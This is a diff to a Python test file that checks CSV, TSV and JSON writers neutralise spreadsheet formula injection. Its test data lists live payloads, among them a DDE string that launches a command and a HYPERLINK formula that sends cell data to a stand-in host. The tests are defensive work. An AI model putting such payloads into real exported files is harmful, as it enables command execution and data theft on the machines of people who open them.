@@ -60,10 +60,35 @@ def same(a: float, b: float) -> bool:
 def test_texts_and_numbers_survive_delimited(writer: Any, separator: str) -> None:
     text = written(writer, TEXT_ROWS)
     read = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))
-    assert read == [["n", 'te,"xt'], *([str(n), t] for n, t in enumerate(TEXTS))]
+    shown = ['"=1+1"' if text == "=1+1" else text for text in TEXTS]
+    assert read == [["n", 'te,"xt'], *([str(n), t] for n, t in enumerate(shown))]
     numbers = Listing(["x"], ["DOUBLE"], [(x,) for x in [*NUMBERS, math.inf, -math.inf]])
     frame = pd.read_csv(io.StringIO(written(writer, numbers)), sep=separator)
     assert all(same(a, b[0]) for a, b in zip(frame["x"], numbers, strict=True))
+
+
+LIVE = [
+    "=1+1", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "=HYPERLINK(\"http://x/?\"&A1)", "\t=1+1",
+    "\r=1+1", "\n=1", " =1+1", "\x00=1", "＝1+1", "＋1", "－1", "＠A1", "-", "- a point",
+]  # fmt: skip
+HARMLESS = ["-0.5", "+1e5", "-3", "1-1", "a=1", "reward/mean", '"=1', "{}", "", "'=1"]
+
+
+@pytest.mark.parametrize(("writer", "separator"), [(write_csv, ","), (write_tsv, "\t")])
+def test_no_formula_is_live(writer: Any, separator: str) -> None:
+    """In cells and in the header; what is only a number is none."""
+    rows = Listing(["=evil()", "t"], ["BIGINT", "VARCHAR"], list(enumerate(LIVE + HARMLESS)))
+    header, *read = csv.reader(io.StringIO(written(writer, rows), newline=""), delimiter=separator)
+    assert header == ['"=evil()"', "t"]
+    cells = [cell for _, cell in read]
+    for text, cell in zip(LIVE, cells, strict=False):
+        assert cell[0] == '"'
+        assert json.loads(cell) == text
+    assert cells[len(LIVE) :] == HARMLESS
+    numbers = Listing(["x"], ["DOUBLE"], [(-0.5,), (-5e-324,)])
+    assert written(writer, numbers) == "x\n-0.5\n-5e-324\n"
+    exact = json.loads(written(write_json, rows))
+    assert [row["t"] for row in exact] == LIVE + HARMLESS
 
 
 def test_null_nan_and_empty_text_differ_in_csv() -> None:
@@ -80,7 +105,9 @@ def test_a_null_alone_on_its_line_is_a_line() -> None:
 def test_csv_and_json_give_back_anything(rows: list[tuple[str, float, int]]) -> None:
     listing = Listing(["t", "f", "i"], ["VARCHAR", "DOUBLE", "BIGINT"], rows)
     read = list(csv.reader(io.StringIO(written(write_csv, listing), newline="")))[1:]
-    assert [r[0] for r in read] == [row[0] for row in rows]
+    for (cell, *_), (text, *_) in zip(read, rows, strict=True):
+        # A cell is its text, or the JSON of one that a spreadsheet might compute with.
+        assert cell == text or (json.loads(cell) == text and set(text) & set("=+-@＝＋－＠"))
     assert all(
         same(float(r[1]), row[1]) or math.isnan(row[1]) for r, row in zip(read, rows, strict=True)
     )
